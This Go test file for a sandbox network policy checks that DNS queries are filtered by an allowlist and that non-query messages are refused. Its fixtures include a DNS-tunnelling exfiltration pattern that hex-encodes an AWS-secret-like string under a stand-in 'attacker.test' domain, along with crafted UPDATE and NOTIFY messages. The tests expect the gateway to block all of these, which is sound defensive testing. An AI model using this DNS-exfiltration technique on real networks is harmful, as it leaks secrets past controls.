package netpolicy

import (
	"context"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gondolin/gondolin/netpolicy/netpolicytest"
	"github.com/miekg/dns"
)

// fakeResolver stands in for the trusted resolver on loopback, over UDP
// and TCP on one port: it takes every message (not only what
// dns.DefaultMsgAcceptFunc lets through, so that an UPDATE reaching it
// shows), answers it, counts the names it was asked, and keeps the
// headers of messages that are not plain queries.
type fakeResolver struct {
	addr string
	mu   sync.Mutex
	seen map[string]int // lower-case name with its dot -> queries
	odd  []dns.Header   // received messages that are not standard queries
}

// plainQuery reports whether a message header is a standard query's:
// one question, no answer or authority records, at most one additional
// (EDNS's OPT).
func plainQuery(h dns.Header) bool {
	return (h.Bits>>11)&0xF == dns.OpcodeQuery && h.Qdcount == 1 && h.Ancount == 0 && h.Nscount == 0 && h.Arcount <= 1
}

// oddMessages returns the headers of the non-query messages received.
func (r *fakeResolver) oddMessages() []dns.Header {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.odd)
}

func newFakeResolver(t testing.TB) *fakeResolver {
	r := &fakeResolver{seen: map[string]int{}}
	h := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		r.mu.Lock()
		for _, qq := range q.Question {
			r.seen[strings.ToLower(qq.Name)]++
		}
		r.mu.Unlock()
		m := new(dns.Msg)
		m.SetReply(q)
		if len(q.Question) > 0 && q.Question[0].Qtype == dns.TypeA {
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IPv4(93, 184, 216, 34)})
		}
		w.WriteMsg(m)
	})
	var (
		pc  net.PacketConn
		ln  net.Listener
		err error
	)
	for try := 0; ; try++ {
		if pc, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
			t.Fatal(err)
		}
		if ln, err = net.Listen("tcp", pc.LocalAddr().String()); err == nil {
			break
		}
		pc.Close()
		if try == 10 {
			t.Fatal(err)
		}
	}
	r.addr = pc.LocalAddr().String()
	accept := func(dh dns.Header) dns.MsgAcceptAction {
		if !plainQuery(dh) {
			r.mu.Lock()
			r.odd = append(r.odd, dh)
			r.mu.Unlock()
		}
		return dns.MsgAccept
	}
	for _, srv := range []*dns.Server{{PacketConn: pc, Handler: h, MsgAcceptFunc: accept}, {Listener: ln, Handler: h, MsgAcceptFunc: accept}} {
		started := make(chan struct{})
		srv.NotifyStartedFunc = func() { close(started) }
		go srv.ActivateAndServe()
		<-started
		t.Cleanup(func() { srv.Shutdown() })
	}
	return r
}

// total is the number of questions the resolver was asked.
func (r *fakeResolver) total() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	k := 0
	for _, c := range r.seen {
		k += c
	}
	return k
}

func (r *fakeResolver) count(name string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.seen[strings.ToLower(dns.Fqdn(name))]
}

// dnsBlocks returns the Blocked DNS events for host (as events name it).
func dnsBlocks(n *Network, host string) []Event {
	var out []Event
	for _, e := range n.Events() {
		if e.Proto == "dns" && e.Action == Blocked && e.Host == host {
			out = append(out, e)
		}
	}
	return out
}

// TestDNSAllowlist runs queries through the guest's real DNS path (the
// gVisor stack, UDP and TCP) and checks which names reach the resolver.
func TestDNSAllowlist(t *testing.T) {
	res := newFakeResolver(t)
	limited := func(mode DNSMode) Policy {
		p := DefaultPolicy()
		p.DNS = mode
		p.DNSServers = []string{res.addr}
		p.Allow = []string{"api.example.com", "*.allowed.test"}
		p.Deny = []string{"bad.allowed.test"}
		p.SSHAllow = []SSHHost{{Host: "git.example.org", Port: 22}}
		p.SSHKnownHosts = []string{"/nonexistent/known_hosts"}
		p.SSHAgent = "/nonexistent/agent.sock"
		p.TCPMaps = []TCPMap{{GuestHost: "db.example.org", GuestPort: 5432, Upstream: "db.upstream.test:5432"}}
		p.Resolve = []ResolvePin{{Host: "pinned.example.org", IP: netip.MustParseAddr("192.0.2.7")}}
		return p
	}
	everything := DefaultPolicy()
	everything.DNS = DNSTrusted
	everything.DNSServers = []string{res.addr}
	synthetic := limited(DNSSynthetic)
	synthetic.DNSServers = nil

	type guest struct {
		n *Network
		g *netpolicytest.Guest
	}
	guests := map[string]guest{}
	for name, p := range map[string]Policy{
		"trusted": limited(DNSTrusted), "open": limited(DNSOpen), "everything": everything, "synthetic": synthetic,
	} {
		n := newTestNetwork(t, p)
		g := newTestGuest(t, n)
		guests[name] = guest{n, g}
	}
	exfil := func(i int) string {
		return hex.EncodeToString([]byte("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI"))[:40] + "." + string(rune('a'+i)) + ".attacker.test"
	}

	for _, tc := range []struct {
		name      string
		guest     string
		qname     string
		qtype     uint16
		tcp       bool
		extra     string // a second question (which makes it no query: see TestDNSOnlyQueries)
		rcode     int
		forwarded bool
		rule      string // of the Blocked event; "" for none
	}{
		{"allowed name", "trusted", "api.example.com", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
		{"allowed name, any case", "trusted", "API.Example.COM", dns.TypeAAAA, false, "", dns.RcodeSuccess, true, ""},
		{"allowed name, TXT", "trusted", "api.example.com", dns.TypeTXT, false, "", dns.RcodeSuccess, true, ""},
		{"allowed wildcard", "trusted", "x.allowed.test", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
		{"denied inside a wildcard", "trusted", "bad.allowed.test", dns.TypeA, false, "", dns.RcodeNameError, false, "deny bad.allowed.test"},
		{"ssh-allow-host name", "trusted", "git.example.org", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
		{"tcp-map guest name", "trusted", "db.example.org", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
		{"resolve name", "trusted", "pinned.example.org", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
		{"wildcard's own domain", "trusted", "allowed.test", dns.TypeA, false, "", dns.RcodeNameError, false, "not in allowlist"},
		{"exfil TXT", "trusted", exfil(0), dns.TypeTXT, false, "", dns.RcodeNameError, false, "not in allowlist"},
		{"exfil A", "trusted", exfil(1), dns.TypeA, false, "", dns.RcodeNameError, false, "not in allowlist"},
		{"exfil ANY: the name is refused before the type", "trusted", exfil(2), dns.TypeANY, false, "", dns.RcodeNameError, false, "not in allowlist"},
		{"exfil over TCP", "trusted", exfil(3), dns.TypeTXT, true, "", dns.RcodeNameError, false, "not in allowlist"},
		{"IP literal as a name", "trusted", "1.2.3.4", dns.TypeA, false, "", dns.RcodeNameError, false, "not a host name"},
		{"open: exfil TXT", "open", exfil(4), dns.TypeTXT, false, "", dns.RcodeNameError, false, "not in allowlist"},
		{"open: exfil NULL over TCP", "open", exfil(5), dns.TypeNULL, true, "", dns.RcodeNameError, false, "not in allowlist"},
		{"open: allowed name", "open", "y.allowed.test", dns.TypeSRV, false, "", dns.RcodeSuccess, true, ""},
		{"open: an exfil second question", "open", "z.allowed.test", dns.TypeA, false, exfil(6), dns.RcodeFormatError, false, ""},
		{"no allowlist: every name goes", "everything", "anything.example.net", dns.TypeTXT, false, "", dns.RcodeSuccess, true, ""},
		{"synthetic: answered, nothing sent", "synthetic", exfil(7), dns.TypeA, false, "", dns.RcodeSuccess, false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			gu := guests[tc.guest]
			m := new(dns.Msg)
			m.SetQuestion(dns.Fqdn(tc.qname), tc.qtype)
			if tc.extra != "" {
				m.Question = append(m.Question, dns.Question{Name: dns.Fqdn(tc.extra), Qtype: dns.TypeA, Qclass: dns.ClassINET})
			}
			exchange := gu.g.Exchange
			if tc.tcp {
				exchange = gu.g.ExchangeTCP
			}
			r, err := exchange(m)
			if err != nil {
				t.Fatal(err)
			}
			if r.Rcode != tc.rcode {
				t.Errorf("rcode %s, want %s", dns.RcodeToString[r.Rcode], dns.RcodeToString[tc.rcode])
			}
			if got := res.count(tc.qname) > 0; got != tc.forwarded {
				t.Errorf("resolver saw %s: %v, want %v", tc.qname, got, tc.forwarded)
			}
			if tc.extra != "" && res.count(tc.extra) > 0 {
				t.Errorf("resolver saw %s", tc.extra)
			}
			host := strings.ToLower(tc.qname)
			if tc.extra != "" {
				host = tc.extra // the question refused
			}
			blocks := dnsBlocks(gu.n, host)
			switch {
			case tc.rule == "" && len(blocks) > 0:
				t.Errorf("unexpected events %+v", blocks)
			case tc.rule != "" && len(blocks) != 1:
				t.Errorf("events %+v, want one block", blocks)
			case tc.rule != "":
				if e := blocks[0]; e.Rule != tc.rule || (tc.extra == "" && e.Method != dns.TypeToString[tc.qtype]) || !strings.Contains(e.Reason, "--allow-host") {
					t.Errorf("event %+v, want rule %q, method %s", e, tc.rule, dns.TypeToString[tc.qtype])
				}
			}
			if tc.guest == "synthetic" {
				if len(r.Answer) != 1 || !SyntheticPrefix.Contains(netip.MustParseAddr(r.Answer[0].(*dns.A).A.String())) {
					t.Errorf("synthetic answer %v", r.Answer)
				}
			}
		})
	}

	// Policy changes apply to the next query.
	t.Run("live policy", func(t *testing.T) {
		gu := guests["trusted"]
		ask := func(name string) int {
			t.Helper()
			r, err := gu.g.Query(name, dns.TypeA)
			if err != nil {
				t.Fatal(err)
			}
			return r.Rcode
		}
		if rc := ask("later.example.net"); rc != dns.RcodeNameError || res.count("later.example.net") != 0 {
			t.Fatalf("before allow: rcode %d, resolver saw %d", rc, res.count("later.example.net"))
		}
		if err := gu.n.UpdatePolicy(func(p *Policy) error { return p.AllowHost("later.example.net") }); err != nil {
			t.Fatal(err)
		}
		if rc := ask("later.example.net"); rc != dns.RcodeSuccess || res.count("later.example.net") != 1 {
			t.Fatalf("after allow: rcode %d, resolver saw %d", rc, res.count("later.example.net"))
		}
		before := res.count("api.example.com")
		if err := gu.n.UpdatePolicy(func(p *Policy) error { return p.DenyHost("api.example.com") }); err != nil {
			t.Fatal(err)
		}
		if rc := ask("api.example.com"); rc != dns.RcodeNameError || res.count("api.example.com") != before {
			t.Fatalf("after deny: rcode %d, resolver saw %d more", rc, res.count("api.example.com")-before)
		}
	})
}

func TestDNSRule(t *testing.T) {
	p := Policy{
		Allow:    []string{"*.example.com", "exact.test"},
		Deny:     []string{"*.corp.example.com", "ssh.example.com"},
		SSHAllow: []SSHHost{{Host: "git.corp.example.com", Port: 22}, {Host: "ssh.example.com", Port: 22}},
		TCPMaps:  []TCPMap{{GuestHost: "DB.test", GuestPort: 5432, Upstream: "10.0.0.1:5432"}},
		Resolve:  []ResolvePin{{Host: "pin.test", IP: netip.MustParseAddr("127.0.0.1")}},
	}
	for _, tc := range []struct {
		qname string
		rule  string
		ok    bool
	}{
		{"a.example.com.", "allow *.example.com", true},
		{"EXACT.test.", "allow exact.test", true},
		{"x.corp.example.com.", "deny *.corp.example.com", false},
		{"git.corp.example.com.", "ssh-allow git.corp.example.com:22", true}, // more specific than the deny
		{"ssh.example.com.", "deny ssh.example.com", false},                  // a tie: deny wins
		{"db.test.", "tcp-map DB.test:5432=10.0.0.1:5432", true},
		{"pin.test.", "resolve pin.test", true},
		{"other.test.", "not in allowlist", false},
		{"example.com.", "not in allowlist", false},
		{"1.2.3.4.", "not a host name", false},
		{"0x7f.1.", "not a host name", false},
		{`a\.b.example.com.`, "not a host name", false},
		{`a\000.example.com.`, "not a host name", false},
		{"a:80.example.com.", "not a host name", false},
		{".", "not a host name", false},
	} {
		rule, ok := p.dnsRule(tc.qname)
		if rule != tc.rule || ok != tc.ok {
			t.Errorf("dnsRule(%q) = %q, %v; want %q, %v", tc.qname, rule, ok, tc.rule, tc.ok)
		}
	}
	if rule, ok := (&Policy{}).dnsRule("a.test."); ok || rule != "allowlist is empty" {
		t.Errorf("empty allowlist: %q %v", rule, ok)
	}
	every := DefaultPolicy()
	if _, ok := every.dnsRule("_dmarc.x.example."); !ok {
		t.Error("a policy allowing every host refused a name")
	}
	every.Deny = []string{"x.example"}
	if _, ok := every.dnsRule("x.example."); ok {
		t.Error("a deny on a policy allowing every host did not apply")
	}
}

// FuzzDNSAllowlist feeds guest bytes to trusted and open DNS under a
// policy that limits hosts, with a loopback resolver behind: every answer
// must parse, a query with a name the policy refuses must get NXDOMAIN
// without the resolver seeing anything, and nothing but standard queries
// may reach the resolver.
func FuzzDNSAllowlist(f *testing.F) {
	for _, q := range []struct {
		name string
		typ  uint16
	}{
		{"api.example.com.", dns.TypeA}, {"x.allowed.test.", dns.TypeTXT}, {"6162.attacker.test.", dns.TypeTXT},
		{"bad.allowed.test.", dns.TypeAAAA}, {"1.2.3.4.", dns.TypeA}, {`a\.allowed.test.`, dns.TypeA}, {".", dns.TypeNS},
	} {
		m := new(dns.Msg)
		m.SetQuestion(q.name, q.typ)
		b, _ := m.Pack()
		f.Add(b)
		m.SetEdns0(4096, true)
		m.Question = append(m.Question, dns.Question{Name: "z.attacker.test.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		b, _ = m.Pack()
		f.Add(b)
		u := new(dns.Msg)
		u.SetUpdate(q.name)
		u.Insert([]dns.RR{&dns.A{Hdr: dns.RR_Header{Name: q.name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.IPv4(203, 0, 113, 66)}})
		b, _ = u.Pack()
		f.Add(b)
	}
	res := newFakeResolver(f)
	var nets []*Network
	for _, mode := range []DNSMode{DNSTrusted, DNSOpen} {
		p := DefaultPolicy()
		p.DNS, p.DNSServers = mode, []string{res.addr}
		p.Allow = []string{"api.example.com", "*.allowed.test"}
		p.Deny = []string{"bad.allowed.test"}
		nets = append(nets, newTestNetwork(f, p))
	}
	f.Fuzz(func(t *testing.T, q []byte) {
		req := new(dns.Msg)
		refused := false
		if req.Unpack(q) == nil {
			for _, qq := range req.Question {
				if _, ok := nets[0].policy.Load().dnsRule(qq.Name); !ok {
					refused = true
				}
			}
		}
		for _, n := range nets {
			for _, tcp := range []bool{false, true} {
				before, odd := res.total(), len(res.oddMessages())
				out := n.answerDNS(context.Background(), n.policy.Load(), q, tcp)
				if refused && res.total() != before {
					t.Fatalf("a refused name reached the resolver: %v", req.Question)
				}
				if got := res.oddMessages()[odd:]; len(got) > 0 {
					t.Fatalf("a message other than a standard query reached the resolver: %+v", got)
				}
				if out == nil {
					continue
				}
				m := new(dns.Msg)
				if err := m.Unpack(out); err != nil {
					t.Fatalf("answer does not parse: %v", err)
				}
				if refused && m.Rcode != dns.RcodeNameError && m.Rcode != dns.RcodeFormatError &&
					m.Rcode != dns.RcodeNotImplemented && m.Rcode != dns.RcodeRefused {
					t.Fatalf("refused name answered %s", dns.RcodeToString[m.Rcode])
				}
			}
		}
	})
}

// TestDNSOnlyQueries: a guest sends the host's resolver, through trusted
// and open DNS, messages that are not lookups, for names the policy
// allows: a dynamic UPDATE of an allowed zone, a NOTIFY, queries
// carrying records or several questions. None may reach the resolver;
// each gets NOTIMP or FORMERR from the gateway, and an event.
func TestDNSOnlyQueries(t *testing.T) {
	res := newFakeResolver(t)
	type guest struct {
		n *Network
		g *netpolicytest.Guest
	}
	var guests []guest
	for _, mode := range []DNSMode{DNSTrusted, DNSOpen} {
		for _, every := range []bool{false, true} {
			p := DefaultPolicy()
			p.DNS = mode
			p.DNSServers = []string{res.addr}
			if !every {
				p.Allow = []string{"*.allowed.test"}
			}
			n := newTestNetwork(t, p)
			g := newTestGuest(t, n)
			guests = append(guests, guest{n, g})
		}
	}
	const zone = "allowed.test."
	const name = "y.allowed.test."
	rr := func(s string) dns.RR {
		r, err := dns.NewRR(s)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	query := func() *dns.Msg {
		m := new(dns.Msg)
		m.SetQuestion(name, dns.TypeA)
		return m
	}
	opt := func() *dns.OPT {
		o := &dns.OPT{Hdr: dns.RR_Header{Name: ".", Rrtype: dns.TypeOPT}}
		o.SetUDPSize(1232)
		return o
	}
	for _, tc := range []struct {
		name  string
		msg   func() *dns.Msg
		rcode int
		why   string
	}{
		{"UPDATE adding a record", func() *dns.Msg {
			m := new(dns.Msg)
			m.SetUpdate(name) // the zone section: a name the policy allows
			m.Insert([]dns.RR{rr(name + " 60 IN A 203.0.113.66")})
			return m
		}, dns.RcodeNotImplemented, "opcode UPDATE"},
		{"UPDATE deleting a zone's records", func() *dns.Msg {
			m := new(dns.Msg)
			m.SetUpdate("x" + zone)
			m.RemoveName([]dns.RR{rr("www.x" + zone + " 60 IN A 0.0.0.0")})
			return m
		}, dns.RcodeNotImplemented, "opcode UPDATE"},
		{"UPDATE, zone section only", func() *dns.Msg {
			m := new(dns.Msg)
			m.SetUpdate(name)
			return m
		}, dns.RcodeNotImplemented, "opcode UPDATE"},
		{"NOTIFY", func() *dns.Msg {
			m := new(dns.Msg)
			m.SetNotify(name)
			m.Answer = []dns.RR{rr(name + " 60 IN SOA ns." + name + " h." + name + " 99 1 1 1 1")}
			return m
		}, dns.RcodeNotImplemented, "opcode NOTIFY"},
		{"STATUS", func() *dns.Msg { m := query(); m.Opcode = dns.OpcodeStatus; return m }, dns.RcodeNotImplemented, "opcode STATUS"},
		{"opcode 15", func() *dns.Msg { m := query(); m.Opcode = 15; return m }, dns.RcodeNotImplemented, "opcode 15"},
		{"query with an answer record", func() *dns.Msg {
			m := query()
			m.Answer = []dns.RR{rr(name + " 60 IN A 203.0.113.66")}
			return m
		}, dns.RcodeFormatError, "answer or authority"},
		{"IXFR-style query with an authority SOA", func() *dns.Msg {
			m := query()
			m.Ns = []dns.RR{rr(name + " 60 IN SOA ns." + name + " h." + name + " 1 1 1 1 1")}
			return m
		}, dns.RcodeFormatError, "answer or authority"},
		{"query with an additional A", func() *dns.Msg {
			m := query()
			m.Extra = []dns.RR{rr("ns." + name + " 60 IN A 203.0.113.66")}
			return m
		}, dns.RcodeFormatError, "additional"},
		{"query with a TSIG", func() *dns.Msg {
			m := query()
			m.SetTsig("key.", dns.HmacSHA256, 300, time.Now().Unix())
			return m
		}, dns.RcodeFormatError, "additional"},
		{"query with two OPTs", func() *dns.Msg {
			m := query()
			m.Extra = []dns.RR{opt(), opt()}
			return m
		}, dns.RcodeFormatError, "additional"},
		{"OPT and another record", func() *dns.Msg {
			m := query()
			m.Extra = []dns.RR{opt(), rr("ns." + name + " 60 IN TXT x")}
			return m
		}, dns.RcodeFormatError, "additional"},
		{"two allowed questions", func() *dns.Msg {
			m := query()
			m.Question = append(m.Question, dns.Question{Name: "z." + zone, Qtype: dns.TypeTXT, Qclass: dns.ClassINET})
			return m
		}, dns.RcodeFormatError, "one question"},
		{"no question", func() *dns.Msg { m := query(); m.Question = nil; return m }, dns.RcodeFormatError, "one question"},
	} {
		for gi, gu := range guests {
			for _, tcp := range []bool{false, true} {
				mode := gu.n.policy.Load().dnsMode()
				t.Run(fmt.Sprintf("%s/%s/guest%d/tcp=%v", tc.name, mode, gi, tcp), func(t *testing.T) {
					before, odd, events := res.total(), len(res.oddMessages()), len(gu.n.Events())
					exchange := gu.g.Exchange
					if tcp {
						exchange = gu.g.ExchangeTCP
					}
					r, err := exchange(tc.msg())
					if err != nil {
						t.Fatal(err)
					}
					if r.Rcode != tc.rcode {
						t.Errorf("rcode %s, want %s", dns.RcodeToString[r.Rcode], dns.RcodeToString[tc.rcode])
					}
					if got := res.total() - before; got != 0 {
						t.Errorf("the resolver was asked %d questions", got)
					}
					if got := res.oddMessages()[odd:]; len(got) > 0 {
						t.Errorf("the resolver received %+v", got)
					}
					evs := gu.n.Events()[events:]
					if len(evs) != 1 || evs[0].Action != Blocked || evs[0].Proto != "dns" || evs[0].Rule != "dns "+string(mode) || !strings.Contains(evs[0].Reason, tc.why) {
						t.Errorf("events %+v, want one block saying %q", evs, tc.why)
					}
				})
			}
		}
	}

	// What resolvers send passes: a query, with EDNS.
	for _, gu := range guests {
		before := res.count(name)
		m := query()
		m.SetEdns0(1232, true)
		r, err := gu.g.Exchange(m)
		if err != nil || r.Rcode != dns.RcodeSuccess || len(r.Answer) != 1 || res.count(name) != before+1 {
			t.Errorf("plain query with EDNS: %v, %v; resolver saw %d", r, err, res.count(name)-before)
		}
	}
	if odd := res.oddMessages(); len(odd) > 0 {
		t.Errorf("the resolver received non-queries: %+v", odd)
	}
}
